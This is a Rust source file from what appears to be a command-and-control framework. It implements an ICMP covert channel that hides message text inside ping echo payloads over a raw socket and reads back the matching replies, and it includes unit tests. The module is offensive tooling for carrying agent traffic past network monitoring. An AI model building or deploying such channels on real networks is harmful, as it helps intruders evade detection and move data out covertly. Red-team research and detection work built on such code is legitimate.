//! ICMP covert channel
//!
//! Embeds the message as the raw payload of an echo request and waits a
//! bounded time for the matching echo reply (correlated by identifier and
//! sequence number). Packet construction and parsing are delegated to
//! `pnet_packet`; the raw socket requires CAP_NET_RAW or root, and a
//! privilege failure fails closed like any other network error.
//!
//! Message-only: polling and heartbeat are declared unsupported.

use std::io::Read;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicU16, Ordering};
use std::time::{Duration, Instant};

use async_trait::async_trait;
use pnet_packet::icmp::echo_reply::EchoReplyPacket;
use pnet_packet::icmp::echo_request::MutableEchoRequestPacket;
use pnet_packet::icmp::{checksum, IcmpPacket, IcmpTypes};
use pnet_packet::Packet;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use sk_core::error::ChannelError;
use sk_core::types::{Command, CommandResult, TransportKind};

use crate::{Capabilities, CovertChannel};

/// How long to wait for a matching echo reply
const REPLY_TIMEOUT: Duration = Duration::from_secs(2);

/// Echo request header length in bytes
const ECHO_HEADER_LEN: usize = 8;

/// ICMP-based covert channel
pub struct IcmpChannel {
    agent_id: String,
    target_ip: Option<Ipv4Addr>,
    /// Echo identifier for this channel instance
    identifier: u16,
    /// Sequence counter, one per outgoing request
    sequence: AtomicU16,
}

impl IcmpChannel {
    /// Create an ICMP channel targeting `target_ip`.
    pub fn new(target_ip: &str, agent_id: &str) -> Self {
        let target_ip = match target_ip.parse::<Ipv4Addr>() {
            Ok(ip) => Some(ip),
            Err(e) => {
                tracing::error!("Invalid ICMP target address {:?}: {}", target_ip, e);
                None
            }
        };

        Self {
            agent_id: agent_id.to_string(),
            target_ip,
            identifier: rand::random::<u16>(),
            sequence: AtomicU16::new(1),
        }
    }

    async fn try_send_message(&self, message: &str) -> Result<String, ChannelError> {
        let target = self
            .target_ip
            .ok_or_else(|| ChannelError::Network("no target address configured".to_string()))?;

        let identifier = self.identifier;
        let sequence = self.sequence.fetch_add(1, Ordering::Relaxed);
        let payload = message.as_bytes().to_vec();

        // Raw sockets block; run the whole exchange off the async runtime.
        tokio::task::spawn_blocking(move || {
            exchange_echo(target, identifier, sequence, &payload)
        })
        .await
        .map_err(|e| ChannelError::Network(format!("icmp task failed: {}", e)))?
    }
}

/// Send one echo request and wait for the matching reply, returning the
/// reply payload as text.
fn exchange_echo(
    target: Ipv4Addr,
    identifier: u16,
    sequence: u16,
    payload: &[u8],
) -> Result<String, ChannelError> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4))
        .map_err(|e| ChannelError::Network(format!("raw socket: {}", e)))?;
    socket
        .set_read_timeout(Some(REPLY_TIMEOUT))
        .map_err(|e| ChannelError::Network(e.to_string()))?;

    let request = build_echo_request(identifier, sequence, payload)?;
    let dest = SockAddr::from(SocketAddrV4::new(target, 0));
    socket
        .send_to(&request, &dest)
        .map_err(|e| ChannelError::Network(format!("send: {}", e)))?;

    let deadline = Instant::now() + REPLY_TIMEOUT;
    let mut buf = [0u8; 1500];
    loop {
        if Instant::now() >= deadline {
            return Err(ChannelError::Timeout);
        }

        let len = match (&socket).read(&mut buf) {
            Ok(len) => len,
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                return Err(ChannelError::Timeout);
            }
            Err(e) => return Err(ChannelError::Network(format!("recv: {}", e))),
        };

        if let Some(reply) = decode_echo_reply(&buf[..len], identifier, sequence) {
            return Ok(reply);
        }
        // Unrelated ICMP traffic; keep listening until the deadline
    }
}

/// Build the bytes of an echo request carrying `payload`
fn build_echo_request(
    identifier: u16,
    sequence: u16,
    payload: &[u8],
) -> Result<Vec<u8>, ChannelError> {
    let mut buf = vec![0u8; ECHO_HEADER_LEN + payload.len()];
    {
        let mut packet = MutableEchoRequestPacket::new(&mut buf)
            .ok_or_else(|| ChannelError::Malformed("echo request buffer too small".to_string()))?;
        packet.set_icmp_type(IcmpTypes::EchoRequest);
        packet.set_identifier(identifier);
        packet.set_sequence_number(sequence);
        packet.set_payload(payload);
    }

    let sum = {
        let packet = IcmpPacket::new(&buf)
            .ok_or_else(|| ChannelError::Malformed("checksum buffer too small".to_string()))?;
        checksum(&packet)
    };
    if let Some(mut packet) = MutableEchoRequestPacket::new(&mut buf) {
        packet.set_checksum(sum);
    }

    Ok(buf)
}

/// Decode a datagram from the raw socket, returning the payload when it is
/// the echo reply matching `identifier` and `sequence`.
///
/// Raw ICMP sockets deliver the full IPv4 packet, so the IP header is
/// stripped by its IHL field first.
fn decode_echo_reply(datagram: &[u8], identifier: u16, sequence: u16) -> Option<String> {
    if datagram.is_empty() {
        return None;
    }
    let header_len = ((datagram[0] & 0x0f) as usize) * 4;
    if datagram.len() <= header_len {
        return None;
    }

    let reply = EchoReplyPacket::new(&datagram[header_len..])?;
    if reply.get_icmp_type() != IcmpTypes::EchoReply {
        return None;
    }
    if reply.get_identifier() != identifier || reply.get_sequence_number() != sequence {
        return None;
    }

    Some(String::from_utf8_lossy(reply.payload()).into_owned())
}

#[async_trait]
impl CovertChannel for IcmpChannel {
    fn kind(&self) -> TransportKind {
        TransportKind::Icmp
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities::MESSAGING_ONLY
    }

    async fn send_message(&self, message: &str) -> String {
        match self.try_send_message(message).await {
            Ok(response) => response,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "ICMP send_message failed: {}", e);
                String::new()
            }
        }
    }

    async fn poll_commands(&self) -> Vec<Command> {
        tracing::debug!("ICMP polling not supported");
        Vec::new()
    }

    async fn send_output(&self, _result: &CommandResult) -> bool {
        tracing::debug!("ICMP output reporting not supported");
        false
    }

    async fn heartbeat(&self) -> bool {
        tracing::debug!("ICMP heartbeat not supported");
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pnet_packet::icmp::echo_reply::MutableEchoReplyPacket;

    /// Wrap echo-reply bytes in a minimal IPv4 header the way the raw
    /// socket delivers them.
    fn fake_reply_datagram(identifier: u16, sequence: u16, payload: &[u8]) -> Vec<u8> {
        let mut icmp = vec![0u8; ECHO_HEADER_LEN + payload.len()];
        {
            let mut packet = MutableEchoReplyPacket::new(&mut icmp).unwrap();
            packet.set_icmp_type(IcmpTypes::EchoReply);
            packet.set_identifier(identifier);
            packet.set_sequence_number(sequence);
            packet.set_payload(payload);
        }

        let mut datagram = vec![0u8; 20];
        datagram[0] = 0x45; // IPv4, IHL 5
        datagram.extend_from_slice(&icmp);
        datagram
    }

    #[test]
    fn test_echo_request_layout() {
        let request = build_echo_request(0x1234, 7, b"ping").unwrap();
        let packet = IcmpPacket::new(&request).unwrap();
        assert_eq!(packet.get_icmp_type(), IcmpTypes::EchoRequest);
        assert_eq!(&request[ECHO_HEADER_LEN..], b"ping");
        // Checksum must be filled in
        assert_ne!(&request[2..4], &[0, 0]);
    }

    #[test]
    fn test_decode_matching_reply() {
        let datagram = fake_reply_datagram(42, 3, b"Reply_OK");
        assert_eq!(
            decode_echo_reply(&datagram, 42, 3),
            Some("Reply_OK".to_string())
        );
    }

    #[test]
    fn test_decode_rejects_wrong_correlation() {
        let datagram = fake_reply_datagram(42, 3, b"Reply_OK");
        assert_eq!(decode_echo_reply(&datagram, 42, 4), None);
        assert_eq!(decode_echo_reply(&datagram, 41, 3), None);
    }

    #[test]
    fn test_decode_rejects_truncated_datagram() {
        assert_eq!(decode_echo_reply(&[], 1, 1), None);
        assert_eq!(decode_echo_reply(&[0x45, 0, 0], 1, 1), None);
    }

    #[tokio::test]
    async fn test_unsupported_operations_are_deterministic() {
        let channel = IcmpChannel::new("127.0.0.1", "agent_001");
        for _ in 0..3 {
            assert!(channel.poll_commands().await.is_empty());
            assert!(!channel.heartbeat().await);
        }
    }

    #[tokio::test]
    async fn test_invalid_target_fails_closed() {
        let channel = IcmpChannel::new("not-an-ip", "agent_001");
        assert_eq!(channel.send_message("ping").await, "");
    }
}
